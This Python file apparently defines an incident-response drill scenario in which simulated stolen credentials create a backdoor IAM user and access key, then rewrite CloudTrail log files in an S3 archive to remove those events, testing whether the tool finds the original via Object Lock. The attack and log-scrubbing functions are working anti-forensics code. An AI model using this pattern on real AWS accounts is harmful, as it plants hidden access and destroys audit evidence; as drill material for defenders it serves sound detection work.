"""Cover tracks in the archive itself: a backdoor user, then the log that recorded it rewritten.

The stolen credentials create a user and a key for it. The agent was over-privileged on the log
archive (its ``s3:*`` reaches the archive bucket), so once CloudTrail has delivered the file the
attacker puts a new version of it without those two events. Object Lock keeps the delivered
version; the digest's hash names it; irkit must analyse that one, not the rewrite, to see the user.
"""

from __future__ import annotations

import gzip
from datetime import timedelta

import orjson

from irkit.drill.scenarios import Scenario
from irkit.drill.world import ACCOUNT, ARCHIVE_BUCKET, HOME_REGION, World

USER = "svc-log-shipper"
HIDDEN = frozenset({"CreateUser", "CreateAccessKey"})


def attack(world: World) -> None:
    assert world.attacker is not None
    a = world.attacker
    t = world.now - timedelta(minutes=95)
    a.call("iam", "CreateUser", when=t, UserName=USER)
    world.created_by_attacker.append({"kind": "user", "name": USER, "arn": f"arn:aws:iam::{ACCOUNT}:user/{USER}"})
    key = a.call("iam", "CreateAccessKey", when=t + timedelta(seconds=40), UserName=USER)["AccessKey"]
    world.created_by_attacker.append({"kind": "access_key", "name": key["AccessKeyId"], "user": USER})


def _hides_the_backdoor(record: dict[str, object]) -> bool:
    params = record.get("requestParameters")
    return record.get("eventName") in HIDDEN and isinstance(params, dict) and params.get("userName") == USER


def rewrite_logs(world: World) -> None:
    """After delivery: every log file holding the backdoor's events gets a new version without them."""
    assert world.attacker is not None
    s3 = world.attacker.client("s3", HOME_REGION)
    paginator = s3.get_paginator("list_objects_v2")
    rewritten = 0
    for page in paginator.paginate(Bucket=ARCHIVE_BUCKET, Prefix="AWSLogs/"):
        for obj in page.get("Contents", []):
            key = str(obj["Key"])
            if "/CloudTrail/" not in key or not key.endswith(".json.gz"):
                continue
            doc = orjson.loads(gzip.decompress(s3.get_object(Bucket=ARCHIVE_BUCKET, Key=key)["Body"].read()))
            kept = [r for r in doc["Records"] if not _hides_the_backdoor(r)]
            if len(kept) == len(doc["Records"]):
                continue
            s3.put_object(
                Bucket=ARCHIVE_BUCKET,
                Key=key,
                Body=gzip.compress(orjson.dumps({"Records": kept}), mtime=0),
                ContentType="application/json",
                ContentEncoding="gzip",
            )
            rewritten += 1
    if not rewritten:
        raise RuntimeError(f"log-rewrite: no delivered log holds the events of {USER}")
    world.created_by_attacker.append(
        {
            "kind": "log-rewrite",
            "name": f"{rewritten} archive log(s) rewritten (Object Lock keeps the originals)",
            "loss": "yes",
        }
    )


SCENARIO = Scenario(
    name="log-rewrite",
    summary="CreateUser + CreateAccessKey for it, then the delivered log rewritten as a new version without them",
    expected=("iam_user_created", "iam_access_key_for_other_user"),
    attack=attack,
    integrity=("log-tampered",),
    after_delivery=rewrite_logs,
)
